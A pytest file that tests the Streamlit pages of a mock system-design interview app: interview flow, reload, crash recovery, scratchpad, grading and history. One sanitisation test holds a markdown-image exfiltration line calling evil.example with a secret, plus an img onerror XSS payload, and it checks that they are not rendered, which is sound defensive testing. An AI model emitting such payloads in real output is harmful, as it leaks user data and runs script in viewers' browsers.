"""The Streamlit pages, driven headless with AppTest (offline voice, simulated interview clock)."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from app.errors import ModelError
from app.interview.phases import Phase
from app.interview.session import SimulatedClock
from app.interview.state import InterviewState
from app.settings import get_settings
from app.store import Store, get_store
from app.ui import flow
from app.ui.context import AppContext

MAIN = str(Path(flow.__file__).resolve().parent / "main.py")


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AppContext:
    """A fresh data folder, the offline voice, and 4 simulated minutes per candidate turn."""
    monkeypatch.setenv("SDMOCK_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("SDMOCK_MODEL", "offline")
    clocks: dict[str, SimulatedClock] = {}

    def clock_for(record: Any, turns: Any = None) -> Callable[[], float]:
        state = InterviewState.model_validate_json(record.state)
        clock = clocks.get(record.id)
        if clock is None or clock.now < state.elapsed_minutes:
            clock = clocks[record.id] = SimulatedClock(4.0, state.elapsed_minutes)
        return clock

    monkeypatch.setattr(flow, "clock_for", clock_for)
    monkeypatch.setattr(flow, "build_retriever", lambda settings: None)
    settings = get_settings()
    return AppContext(settings=settings, store=get_store(settings))


def app(**query: str) -> AppTest:
    at = AppTest.from_file(MAIN, default_timeout=60)
    for k, v in query.items():
        at.query_params[k] = v
    return at.run()


def ok(at: AppTest) -> AppTest:
    assert not at.exception, [e.value for e in at.exception]
    return at


def start(at: AppTest, problem: str = "url-shortener") -> str:
    at.selectbox(key="start_problem").set_value(problem)
    next(b for b in at.button if b.label == "Start interview").click()
    ok(at.run())
    assert at.query_params["page"] == "interview"
    return str(at.query_params["id"])


def say(at: AppTest, text: str) -> str:
    at.chat_input[0].set_value(text)
    ok(at.run())
    return last_reply(at)


def last_reply(at: AppTest) -> str:
    return "\n".join(m.value for m in at.chat_message[-1].markdown)


def state_of(store: Store, iid: str) -> InterviewState:
    return InterviewState.model_validate_json(store.get_interview(iid).state)


# --- pages ----------------------------------------------------------------------------------------------


def test_start_page_lists_problems_level_duration_and_voice(env: AppContext) -> None:
    at = ok(app())
    table = at.dataframe[0].value
    assert {"Problem", "Difficulty", "Prompt"} <= set(table.columns)
    assert "URL shortener" in set(table["Problem"])
    assert "Design a URL shortener like TinyURL." in set(table["Prompt"])
    assert at.selectbox(key="start_level").value == "senior"
    assert at.number_input(key="start_minutes").value == 45
    voice = " ".join(i.value for i in at.info)
    assert "offline" in voice and "SDMOCK_MODEL" in voice


def test_full_offline_interview_through_every_step_to_the_report(env: AppContext) -> None:
    at = app()
    iid = start(at)
    opening = last_reply(at)
    assert "URL shortener" in opening or "TinyURL" in opening

    # 1. scope: a clarifying question gets exactly the fact asked for.
    reply = say(at, "How many new URLs are created per day?")
    assert "100 million" in reply
    say(at, "What is the read to write ratio, and how long do we keep the links?")
    turns = env.store.turns(iid)
    assert [t.role for t in turns[:3]] == ["interviewer", "candidate", "interviewer"]
    assert "volume" in turns[2].facts

    visited = [Phase.SCOPE]
    script = {
        Phase.SCOPE: "Can links be updated or deleted? Is low latency on redirects important?",
        Phase.HIGH_LEVEL: "Clients hit a load balancer in front of stateless API servers. A unique id "
        "generator feeds a base62 encoder, mappings live in a key-value database, with a redis cache.",
        Phase.DEEP_DIVE: "I return a 302 redirect so we keep click analytics; codes are base62 of a "
        "snowflake id so there are no collisions.",
        Phase.WRAP_UP: "The bottleneck is the database; I would monitor cache hit ratio and p99 latency, "
        "and shard by short code for the next 10x.",
    }
    for _ in range(24):
        phase = state_of(env.store, iid).phase
        if phase == Phase.WRAP_UP:
            break
        if phase not in visited:
            visited.append(phase)
        say(at, script[phase])
        if state_of(env.store, iid).phase == phase:
            at.button(key="btn_next").click()
            ok(at.run())
        if state_of(env.store, iid).phase not in visited:
            visited.append(state_of(env.store, iid).phase)
    assert visited == [Phase.SCOPE, Phase.HIGH_LEVEL, Phase.DEEP_DIVE, Phase.WRAP_UP]
    say(at, script[Phase.WRAP_UP])
    captions = " ".join(c.value for c in at.caption)
    assert "✓ done" in captions and "budget" in captions

    if env.store.get_interview(iid).status == "active":
        at.button(key="btn_finish").click()
    else:  # the director closed the interview after the wrap-up
        assert at.chat_input[0].proto.disabled
        at.button(key="btn_report").click()
    ok(at.run())
    assert at.query_params["page"] == "report"
    assert at.get("status"), "grading shows a progress indicator"
    assert len(at.get("vega_lite_chart")) == 1
    downloads = {d.proto.label for d in at.get("download_button")}
    assert downloads == {"Download Markdown", "Download HTML"}
    assert any("Interview report" in m.value for m in at.markdown)
    rec = env.store.get_interview(iid)
    rep = env.store.get_report(iid)
    assert rec.status == "graded" and rep is not None and len(rep.scores) == 6
    assert "<html" in rep.html.lower() and rep.markdown.startswith("#")

    # A fresh browser session (reload, second tab, restarted server) finds it all again.
    again = ok(app(page="interview", id=iid))
    assert len(again.chat_message) == len(env.store.turns(iid))
    assert again.chat_input[0].proto.disabled
    report_again = ok(app(page="report", id=iid))
    assert not report_again.get("status"), "a stored report is shown, not re-graded"


def test_reload_restores_interview_where_it_was(env: AppContext) -> None:
    at = app()
    iid = start(at)
    say(at, "How many new URLs per day?")
    fresh = ok(app(page="interview", id=iid))
    bubbles = [" ".join(m.value for m in c.markdown) for c in fresh.chat_message]
    assert bubbles[1] == "How many new URLs per day?"
    assert "100 million" in bubbles[2]
    # the conversation continues in the new session from the stored state
    assert "10 redirects" in say(fresh, "What is the read/write ratio?")
    assert state_of(env.store, iid).released_fact_ids == ["volume", "read_write_ratio"]


def test_two_interviews_never_see_each_others_turns(env: AppContext) -> None:
    a_app, b_app = app(), app()
    a, b = start(a_app), start(b_app)
    say(a_app, "marker-AAA how many URLs per day?")
    say(b_app, "marker-BBB how long do we keep links?")
    a_text = " ".join(m.value for c in ok(app(page="interview", id=a)).chat_message for m in c.markdown)
    b_text = " ".join(m.value for c in ok(app(page="interview", id=b)).chat_message for m in c.markdown)
    assert "marker-AAA" in a_text and "marker-BBB" not in a_text
    assert "marker-BBB" in b_text and "marker-AAA" not in b_text


def test_too_long_message_refused_server_side_with_a_clear_message(env: AppContext) -> None:
    at = app()
    iid = start(at)
    before = len(env.store.turns(iid))
    at.chat_input[0].set_value("x" * (env.settings.max_message_chars + 1))
    ok(at.run())
    errors = " ".join(e.value for e in at.error)
    assert "too long" in errors and f"{env.settings.max_message_chars:,}" in errors
    assert len(env.store.turns(iid)) == before


def test_candidate_text_is_never_rendered_as_html_or_images(env: AppContext) -> None:
    at = app()
    iid = start(at)
    say(at, 'Hi ![leak](http://evil.example/x.png?d=secret) <img src=x onerror="alert(1)"> how many users?')
    shown = " ".join(m.value for c in at.chat_message for m in c.markdown)
    assert "![" not in shown and "<img" not in shown and "evil.example" not in shown
    assert "image removed: leak" in shown
    stored = env.store.turns(iid)[1].content
    assert "![leak](http://evil.example/x.png?d=secret)" in stored  # stored verbatim, shown safely


def test_interrupted_reply_is_marked_and_regenerated(
    env: AppContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = app()
    iid = start(at)
    real_build_voice = flow.build_voice

    class BrokenVoice:
        name = "broken"

        def __init__(self, inner: Any) -> None:
            self.inner = inner

        def speak(self, move: Any, ctx: Any) -> Iterator[str]:
            gen = self.inner.speak(move, ctx)
            yield next(iter(gen))
            raise ModelError("the provider dropped the connection", "try again")

    monkeypatch.setattr(flow, "build_voice", lambda s: BrokenVoice(real_build_voice(s)))
    say(at, "How many new URLs per day?")
    assert any("could not finish" in e.value for e in at.error)
    turns = env.store.turns(iid)
    assert [t.role for t in turns] == ["interviewer", "candidate", "interviewer"]
    assert turns[-1].status == "interrupted"
    assert state_of(env.store, iid).released_fact_ids == []  # the move is redone, not half-applied

    monkeypatch.setattr(flow, "build_voice", real_build_voice)
    at = ok(app(page="interview", id=iid))
    assert at.button(key="btn_next").proto.disabled
    at.button(key="btn_regen").click()
    ok(at.run())
    turns = env.store.turns(iid)
    assert [t.status for t in turns] == ["complete"] * 3
    assert turns[-1].seq == 3 and "100 million" in turns[-1].content
    assert state_of(env.store, iid).released_fact_ids == ["volume"]


def test_a_new_message_supersedes_a_broken_reply(env: AppContext, monkeypatch: pytest.MonkeyPatch) -> None:
    at = app()
    iid = start(at)
    store = env.store
    store.add_turn(iid, role="candidate", content="How long do we keep links?", phase="scope", kind="reply")
    store.add_turn(iid, role="interviewer", content="Keep", phase="scope", status="interrupted", kind="reply")
    at = ok(app(page="interview", id=iid))
    assert "100 million" in say(at, "How many new URLs per day?")
    turns = env.store.turns(iid)
    assert [(t.role, t.status) for t in turns] == [
        ("interviewer", "complete"),
        ("candidate", "complete"),
        ("candidate", "complete"),
        ("interviewer", "complete"),
    ]
    assert flow.pending_reply(turns) is None


def test_candidate_turn_saved_before_a_crash_gets_its_reply(env: AppContext) -> None:
    at = app()
    iid = start(at)
    # As if the process died after committing the candidate turn and before the model answered.
    env.store.add_turn(
        iid, role="candidate", content="How many new URLs per day?", phase="scope", kind="reply"
    )
    at = ok(app(page="interview", id=iid))
    assert any("did not complete" in w.value for w in at.warning)
    at.button(key="btn_regen").click()
    ok(at.run())
    turns = env.store.turns(iid)
    assert [t.role for t in turns] == ["interviewer", "candidate", "interviewer"]
    assert "100 million" in turns[-1].content


def test_scratchpad_renders_dot_and_is_saved(env: AppContext) -> None:
    at = app()
    iid = start(at)
    dot = 'digraph { client -> "load balancer" -> api -> db }'
    at.text_area(key=f"pad_{iid}").input(dot)
    ok(at.run())
    assert env.store.get_interview(iid).scratchpad == dot
    charts = at.get("graphviz_chart")
    assert len(charts) == 1 and "load balancer" in charts[0].proto.spec
    at.text_area(key=f"pad_{iid}").input("graph LR\n  A[Client] --> B[API]")
    ok(at.run())
    assert 'label="Client"' in at.get("graphviz_chart")[0].proto.spec
    # visible to another session and to the grader
    assert ok(app(page="interview", id=iid)).text_area(key=f"pad_{iid}").value.startswith("graph LR")
    ctx = env
    flow.finish_now(ctx, iid)
    flow.grade(ctx, iid)
    rep = env.store.get_report(iid)
    assert rep is not None
    assert rep.data["candidate_turns"] == 1  # the saved diagram, given to the grader


def test_scratchpad_size_limit(env: AppContext) -> None:
    at = app()
    iid = start(at)
    at.text_area(key=f"pad_{iid}").input("digraph { a -> b }" + " " * (env.settings.max_message_chars * 4))
    ok(at.run())
    assert any("diagram is too long" in e.value for e in at.error)
    assert env.store.get_interview(iid).scratchpad == ""


def test_notes_used_for_the_last_reply(env: AppContext, monkeypatch: pytest.MonkeyPatch) -> None:
    class Hit:
        def __init__(self, source: str, heading: str) -> None:
            self.source, self.heading, self.text, self.score = (
                source,
                heading,
                "A **note** ![i](http://x)",
                0.7,
            )

    class StubRetriever:
        def search(
            self, query: str, k: int = 3, step: str | None = None, topic: str | None = None
        ) -> list[Hit]:
            return [Hit("caching.md", "Cache aside"), Hit("cdn.md", "Edge caching")][:k]

    monkeypatch.setattr(flow, "build_retriever", lambda settings: StubRetriever())
    at = app()
    iid = start(at)
    for text in ("How many URLs per day?", "Read/write ratio?", "How long do we keep them?"):
        say(at, text)
    at.button(key="btn_next").click()
    ok(at.run())
    say(at, "A load balancer, stateless API servers, a database and a cache for hot links.")
    notes = env.store.turns(iid)[-1].notes
    if not notes:
        pytest.skip("the director asked for no notes on this move")
    labels = [e.label for e in at.expander]
    assert any("caching.md" in label for label in labels)
    shown = " ".join(m.value for m in at.markdown)
    assert "![" not in shown


def test_unknown_interview_id(env: AppContext) -> None:
    at = ok(app(page="interview", id="doesnotexist"))
    assert any("no interview" in e.value for e in at.error)
    at = ok(app(page="report", id="doesnotexist"))
    assert any("no interview" in e.value for e in at.error)


def test_report_of_an_active_interview_offers_to_finish(env: AppContext) -> None:
    at = app()
    iid = start(at)
    rep = ok(app(page="report", id=iid))
    assert any("still in progress" in i.value for i in rep.info)
    rep.button(key="rep_finish").click()
    ok(rep.run())
    assert env.store.get_report(iid) is not None
    assert len(rep.get("vega_lite_chart")) == 1


def test_history_scores_trend_and_weakest_dimension(env: AppContext) -> None:
    ok(app(page="history"))
    ids = []
    for text in ("How many URLs per day and what is the read/write ratio?", "hello"):
        at = app()
        iid = start(at)
        say(at, text)
        flow.finish_now(env, iid)
        flow.grade(env, iid)
        ids.append(iid)
    at = ok(app(page="history"))
    table = at.dataframe[0].value
    assert set(table["Id"]) == set(ids) and table["Overall"].notna().all()
    assert len(at.get("vega_lite_chart")) == 1
    weakest = " ".join(w.value for w in at.warning)
    assert "Weakest dimension" in weakest
    at.selectbox(key="history_pick").set_value(ids[0])
    at.button(key="history_open_report").click()
    ok(at.run())
    assert at.query_params["page"] == "report" and at.query_params["id"] == ids[0]


def test_history_empty(env: AppContext) -> None:
    at = ok(app(page="history"))
    assert any("No interviews yet" in i.value for i in at.info)


def test_weakest_dimension_helper() -> None:
    from datetime import UTC, datetime

    from app.store import ReportRecord

    def rep(scores: dict[str, float | None]) -> ReportRecord:
        now = datetime.now(UTC)
        return ReportRecord(
            interview_id="x", overall=None, scores=scores, data={}, markdown="", html="", created_at=now
        )

    assert flow.weakest_dimension([]) is None
    got = flow.weakest_dimension([rep({"a": 3.0, "b": 2.0}), rep({"a": 1.0, "b": None})])
    assert got == ("a", 2.0)


def test_llm_voice_reply_is_streamed_and_its_tokens_recorded(
    env: AppContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    from app.llm.fake import FakeModel
    from app.voice.llm import LLMVoice

    model = FakeModel(name="fake/ui")

    def voice(settings: Any) -> LLMVoice:
        return LLMVoice(model, prompts_dir=settings.prompts_dir)

    at = app()
    iid = start(at)
    monkeypatch.setattr(flow, "build_voice", voice)
    model.queue("About 100 million new short URLs a day. What else would you like to know?")
    reply = say(at, "How many new URLs per day?")
    assert "100 million" in reply
    last = env.store.turns(iid)[-1]
    assert last.role == "interviewer" and last.status == "complete"
    assert last.facts == ["volume"]
    assert last.tokens is not None and last.tokens > 0

    # The saved diagram is part of what the interviewer is shown on the next turn.
    flow.save_scratchpad(env, iid, "digraph { client -> api -> db }")
    model.queue("Thanks, I see the diagram. How does the API find a long URL?")
    say(at, "Here is my first sketch.")
    assert "digraph { client -> api -> db }" in json.dumps(model.requests[-1])


def test_interview_clock_counts_pauses_only_up_to_the_idle_cap(env: AppContext) -> None:
    """A candidate who comes back days later resumes with their time, not past the end of the budget."""
    from datetime import timedelta

    record = flow.start_interview(env, "url-shortener", level="senior", minutes=45)
    state = InterviewState.model_validate_json(record.state)
    assert state.clock_read_at is not None and state.elapsed_minutes == 0.0
    read = state.clock_read_at
    state.elapsed_minutes = 12.0
    env.store.save_state(record.id, state.model_dump_json())
    record = env.store.get_interview(record.id)
    turns = env.store.turns(record.id)

    assert flow.interview_minutes(record, turns, read + timedelta(minutes=2)) == pytest.approx(14.0)
    three_days = read + timedelta(days=3)
    assert flow.interview_minutes(record, turns, three_days) == pytest.approx(12.0 + flow.IDLE_CAP_MINUTES)
    finished = record.model_copy(update={"finished_at": three_days})
    assert flow.interview_minutes(finished, turns, three_days) == pytest.approx(12.0)

    # A state saved before clock_read_at existed counts from the last interviewer turn.
    state.clock_read_at = None
    old = record.model_copy(update={"state": state.model_dump_json()})
    opening = turns[0].created_at
    assert flow.interview_minutes(old, turns, opening + timedelta(minutes=3)) == pytest.approx(15.0)


def test_the_clock_read_is_saved_with_the_reply_so_slow_replies_lose_no_time(
    env: AppContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The next turn counts from when the director read the clock, not from when the reply was saved."""
    from datetime import UTC, datetime

    monkeypatch.setattr(flow, "clock_for", flow.InterviewClock)  # the real clock, not the fixture's
    record = flow.start_interview(env, "url-shortener", level="senior", minutes=45)
    turn = flow.submit(env, record.id, "How many new URLs per day?")
    before = datetime.now(UTC)
    stream = flow.begin(env, record.id, "reply", turn.content)
    after_begin = datetime.now(UTC)
    "".join(stream)
    stream.commit()
    saved = InterviewState.model_validate_json(env.store.get_interview(record.id).state)
    assert saved.clock_read_at is not None and before <= saved.clock_read_at <= after_begin
    assert saved.clock_read_at < env.store.turns(record.id)[-1].created_at
    assert 0.0 <= saved.elapsed_minutes < 1.0


def test_two_tabs_answering_at_once_cannot_overwrite_each_others_state(env: AppContext) -> None:
    from app.errors import StateConflictError

    record = flow.start_interview(env, "url-shortener", level="senior", minutes=45)
    one = flow.submit(env, record.id, "How many new URLs per day?")
    two = flow.submit(env, record.id, "Do links expire?")
    first = flow.begin(env, record.id, "reply", one.content)
    second = flow.begin(env, record.id, "reply", two.content)
    "".join(first), "".join(second)
    first.commit()
    with pytest.raises(StateConflictError):
        second.commit()
    stored = env.store.get_interview(record.id)
    assert stored.state == first.session.state.model_dump_json() != record.state
    assert [t.content for t in env.store.turns(record.id)][1:] == [one.content, two.content, first.text]


def test_dimensions_the_model_failed_are_shown_as_not_scored_with_a_retry(
    env: AppContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    import app.llm.registry as registry
    from app.llm.fake import FakeModel

    junk = FakeModel(["I cannot grade this."] * 100)
    monkeypatch.setattr(registry, "get_model", lambda spec, settings: junk)
    at = app()
    iid = start(at)
    rep = ok(app(page="report", id=iid))
    rep.button(key="rep_finish").click()
    ok(rep.run())
    stored = env.store.get_report(iid)
    assert stored is not None and stored.overall is None and set(stored.scores.values()) == {None}
    warning = " ".join(w.value for w in rep.warning)
    assert "Not scored (grading failed)" in warning and "Grade again" in warning
    assert "not scored" in [m.value for m in rep.metric]
